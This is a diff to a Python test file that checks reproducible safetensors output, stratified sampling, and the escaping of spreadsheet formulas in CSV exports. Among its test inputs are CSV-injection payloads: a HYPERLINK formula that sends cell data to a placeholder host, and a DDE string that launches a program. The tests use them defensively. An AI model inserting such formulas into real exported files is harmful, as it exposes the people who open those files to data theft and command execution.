@@ -1,8 +1,10 @@
-"""Files that are whole or absent, logs with tracebacks, records beside results, and what a script imports."""
+"""Files of the project: provenance, tables, tensors, samples."""
 
+import csv
 import errno
 import hashlib
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -10,13 +12,24 @@ import time
 from datetime import datetime
 from pathlib import Path
 
+import numpy as np
+import pandas as pd
 import pytest
+import torch
+from hypothesis import given
+from hypothesis import strategies as st
+from safetensors import safe_open
 
 from biasflow.base.code import code_files
 from biasflow.base.errors import BiasflowError
 from biasflow.base.files import check_writable, sha256, whole_file, whole_folder
 from biasflow.base.provenance import rule_log, write_provenance
 from biasflow.base.records import checked, read_record, record_file, start_of
+from biasflow.base.sample import limit_of, marked, sampled
+from biasflow.base.tabular import as_written, read_text_csv, without_formulas, write_csv
+from biasflow.base.tensors import save_tensors
+from biasflow.results.scores import KEYS, read_scores, tidy, write_scores
+from biasflow.results.tables import write_table
 
 ROOT = Path(__file__).parents[3]
 
@@ -198,3 +211,136 @@ def test_the_record_of_a_result_in_a_storage_lies_beside_all_others_and_of_other
     assert record_file(".snakemake/storage/fs/another/disk/results/demo/tables/a.csv") == here
     for path in ("/another/results/demo/tables/a.csv", ".snakemake/storage/fs/another/a.csv", "results/a.csv"):
         assert record_file(path) is None
+
+
+PACKAGE = Path(__file__).parents[3] / "scripts/biasflow"
+METADATA = {f"key {number}": f'Größe "{number}"\n\x01' for number in range(12)}
+WRITE = """
+import sys, torch
+from biasflow.erasers.eraser import Eraser
+from biasflow.methods.fitted import Active, Fitted, save
+from biasflow.readouts.files import save_arrays
+eraser = Eraser.projection(torch.eye(4)[:2])
+methods = [f"method {number}" for number in range(4)]
+save(Fitted({name: (Active(name, "-", (("last", eraser),)),) for name in methods}, {name: [] for name in methods},
+            reasons={f"absent {number}": "no such layer" for number in range(8)}), sys.argv[1])
+save_arrays(sys.argv[2], {"X": torch.ones(4, 3).numpy()}, [(name, "-") for name in methods], pooling="cls", truncated=0)
+"""
+
+
+@pytest.mark.parametrize("tensors", [{"b": torch.eye(3), "a": torch.ones(2).half()}, {"b": np.eye(3), "a": np.ones(2)}])
+def test_metadata_are_in_the_order_of_their_names_and_the_rest_is_read_back(tmp_path, tensors):
+    written = set()
+    for number, metadata in enumerate([METADATA, dict(reversed(METADATA.items()))] * 3):
+        path = tmp_path / f"{number}.safetensors"
+        save_tensors(tensors, path, metadata)
+        written.add(path.read_bytes())
+        with safe_open(path, "np") as file:
+            assert file.metadata() == METADATA
+            assert all(np.array_equal(file.get_tensor(name), np.asarray(tensor)) for name, tensor in tensors.items())
+    assert len(written) == 1
+
+
+def test_two_processes_write_the_same_bytes(tmp_path):
+    written = set()
+    for seed in "012":
+        paths = [str(tmp_path / f"{kind}-{seed}.safetensors") for kind in ("methods", "arrays")]
+        environment = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": str(PACKAGE.parent)}
+        subprocess.run([sys.executable, "-c", WRITE, *paths], env=environment, check=True)
+        written.add(tuple(Path(path).read_bytes() for path in paths))
+    assert len(written) == 1
+
+
+def test_nothing_else_writes_safetensors():
+    """A call of the library's own would bring back an order that differs from process to process."""
+    library = re.compile(r"from safetensors\S* import .*\b(save|save_file|save_model)\b|serialize_file\(")
+    writing = [path.name for path in PACKAGE.rglob("*.py") if library.search(path.read_text())]
+    assert writing == ["tensors.py"]
+
+
+LINK = '=HYPERLINK("http://example.invalid/?"&A1,"nurse")'
+FORMULAS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "'=1", "''@x"]
+MAY_BEGIN_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+def first_cells(path):
+    with open(path, newline="", encoding="utf-8") as stream:
+        return [row[0] for row in csv.reader(stream)]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_of_somebodys_file_stands_as_text_in_every_csv(tmp_path, text):
+    frame = pd.DataFrame({text: [text], "n": [-1.5]})
+    write_csv(frame, tmp_path / "data.csv")
+    write_table(frame, *(tmp_path / f"table.{kind}" for kind in ("csv", "tex", "html")), caption="A table.")
+    for name in ("data.csv", "table.csv"):
+        for cell in first_cells(tmp_path / name):
+            assert cell == f"'{text}"
+    assert "-1.5" in (tmp_path / "data.csv").read_text().splitlines()[-1]
+    table = read_text_csv(tmp_path / "data.csv")
+    assert table[text].tolist() == [text]
+    scores = tidy(pd.DataFrame({"metric": ["tpr"], "part": [text], "value": [-0.5]}), **{KEYS[0]: "mine"})
+    write_scores(scores, tmp_path / "scores.csv")
+    assert read_scores(tmp_path / "scores.csv")["part"].tolist() == [text]
+    with open(tmp_path / "scores.csv", newline="", encoding="utf-8") as stream:
+        (row,) = csv.DictReader(stream)
+    assert row["part"] == f"'{text}" and row["value"] == "-0.5"
+
+
+def test_a_carriage_return_ends_no_row(tmp_path):
+    write_csv(pd.DataFrame({"x": ["\r=1", "a\rb", "a\r\nb"]}), tmp_path / "a.csv")
+    assert read_text_csv(tmp_path / "a.csv")["x"].tolist() == [" =1", "a b", "a\nb"]
+
+
+@given(st.lists(st.text("=+-@\t'1a.e ", max_size=6), min_size=1))
+def test_what_is_read_is_what_was_written(texts):
+    frame = pd.DataFrame({"x": texts, "n": range(len(texts)), "absent": None})
+    safe = without_formulas(frame)
+    pd.testing.assert_frame_equal(as_written(safe), frame)
+    for cell in safe["x"]:
+        if len(cell) > 1 and cell.startswith(MAY_BEGIN_A_FORMULA):
+            float(cell)  # nothing but numbers begins so
+
+
+@st.composite
+def tables(draw) -> pd.DataFrame:
+    """Items of one to three rows, in groups of very different sizes."""
+    groups = draw(st.lists(st.sampled_from("aaaaaaab"), min_size=1, max_size=60))
+    rows = draw(st.lists(st.integers(1, 3), min_size=len(groups), max_size=len(groups)))
+    item = np.repeat(np.arange(len(groups)), rows)
+    return pd.DataFrame({"item": item, "group": np.repeat(groups, rows), "row": range(len(item))})
+
+
+@given(tables(), st.integers(1, 40), st.integers(0, 40), st.booleans())
+def test_a_smaller_sample_is_part_of_a_larger_one_in_the_tables_order(table, limit, more, alike):
+    small, large = (
+        sampled(table, n, unit=["item"], strata=["group"], alike=alike)["row"].tolist() for n in (limit, limit + more)
+    )
+    assert small == sorted(small) and set(small) <= set(large)
+    assert small == sampled(table, limit, unit=["item"], strata=["group"], alike=alike)["row"].tolist()
+
+
+@given(tables(), st.integers(1, 60))
+def test_items_are_whole_and_as_many_as_the_limit(table, limit):
+    found = sampled(table, limit, unit=["item"])
+    assert found["item"].nunique() == min(limit, table["item"].nunique())
+    assert len(found) == table["item"].isin(found["item"]).sum()
+
+
+@pytest.mark.parametrize("limit", [10, 50, 100, 700])
+def test_groups_keep_their_shares(limit):
+    table = pd.DataFrame({"group": np.repeat(["a", "b", "c"], [700, 200, 100])})
+    found = sampled(table, limit, strata=["group"])["group"].value_counts()
+    assert (found.reindex(["a", "b", "c"]) - limit * np.array([0.7, 0.2, 0.1])).abs().max() <= 1
+
+
+def test_groups_are_alike_as_long_as_they_have_items():
+    table = pd.DataFrame({"group": np.repeat(["a", "b", "c"], [700, 200, 4])})
+    found = sampled(table, 100, strata=["group"], alike=True)["group"].value_counts()
+    assert found["c"] == 4 and {found["a"], found["b"]} == {48}
+
+
+def test_a_limited_dataset_has_its_limit_in_its_name():
+    assert marked("gest", ()) == "gest" and limit_of("gest") == ""
+    assert marked("gest", (500, 500)) == "gest-limit500" and limit_of("gest-limit500") == "500"
+    assert marked("C6", (2000, 500)) == "C6-limit2000-500" and limit_of("C6-limit2000-500") == "2000-500"
